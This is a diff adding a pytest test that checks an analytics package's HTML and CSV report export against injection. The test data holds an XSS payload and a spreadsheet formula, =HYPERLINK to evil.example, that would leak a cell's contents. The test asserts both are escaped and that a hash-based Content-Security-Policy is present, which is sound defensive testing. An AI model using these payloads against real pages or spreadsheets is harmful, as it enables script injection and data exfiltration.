@@ -2,18 +2,22 @@
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
 import re
 import types
 from pathlib import Path
 
+import pandas as pd
 import pytest
 import vl_convert as vlc
 
 from prosumo.analytics.dataset import load_dataset
 from prosumo.analytics.importers.polis import write_polis_dataset
 from prosumo.analytics.metrics import opinions
-from prosumo.analytics.report import build_report, metric_modules, to_html, to_json
+from prosumo.analytics.report import Report, build_report, metric_modules, to_html, to_json
+from prosumo.analytics.section import Section
 
 SAMPLE = Path(__file__).parent / "data" / "polis_sample"
 
@@ -167,3 +171,62 @@ def test_a_forked_dataset_reads_the_same_tables_on_its_own_connection(sample_ds)
     assert fork.backend.con is not sample_ds.backend.con
     assert int(fork.events.count().execute()) == int(sample_ds.events.count().execute()) == 930
     assert fork.meta == sample_ds.meta
+
+
+HOSTILE = "</script><img src=x onerror=alert(1)>"
+
+
+def hostile_report() -> Report:
+    """A report whose data holds markup and formulas, as a community's own names may."""
+    frame = pd.DataFrame(
+        {"segment": [HOSTILE, '=HYPERLINK("https://evil.example/?"&A2,"Gold")', "Silver"], "members": [3, -1, 5]}
+    )
+    chart = {
+        "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
+        "data": {"values": frame.to_dict("records")},
+        "mark": "bar",
+        "encoding": {
+            "x": {"field": "segment", "type": "nominal"},
+            "y": {"field": "members", "type": "quantitative"},
+            "tooltip": [{"field": "segment"}],
+        },
+    }
+    section = Section(
+        key="segments", title=HOSTILE, headline={HOSTILE: 1}, tables={"by segment": frame}, charts=[chart]
+    )
+    return Report(
+        title=HOSTILE,
+        meta={"source": HOSTILE},
+        extent={},
+        sections=[section],
+        created_at="2026-01-01T00:00:00+00:00",
+        engine="duckdb",
+    )
+
+
+def test_html_report_data_cannot_become_markup_and_its_csv_cannot_run_formulas():
+    # when
+    page = to_html(hostile_report())
+    # then: the names are text, in the page and in the chart's data
+    assert HOSTILE not in page
+    assert "<img" not in re.sub(r"<script>.*?</script>", "", page, flags=re.S)  # (Vega's own code has "<img")
+    assert (
+        page.count("&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;") == 7
+    )  # title, h1, source, nav, h2, headline, cell
+    (spec,) = re.findall(r"<script type='application/json' id='chart0-spec'>(.*?)</script>", page, re.S)
+    assert json.loads(spec)["data"]["values"][0]["segment"] == HOSTILE
+    # the only scripts that run are the page's own, each allowed by its hash
+    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
+    scripts = re.findall(r"<script>(.*?)</script>", page, re.S)
+    assert len(scripts) == 2
+    hashes = ["'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'" for s in scripts]
+    assert policy.startswith(f"default-src 'none'; script-src {' '.join(hashes)}; style-src 'sha256-")
+    assert policy.endswith("; img-src data:; base-uri 'none'; form-action 'none'")
+    # and the CSV link's file keeps formulas as text
+    (data,) = re.findall(r"href='data:text/csv;charset=utf-8;base64,([^']+)'", page)
+    assert base64.b64decode(data).decode() == (
+        '"segment","members"\r\n'
+        '"</script><img src=x onerror=alert(1)>",3\r\n'
+        '"\'=HYPERLINK(""https://evil.example/?""&A2,""Gold"")",-1\r\n'
+        '"Silver",5\r\n'
+    )
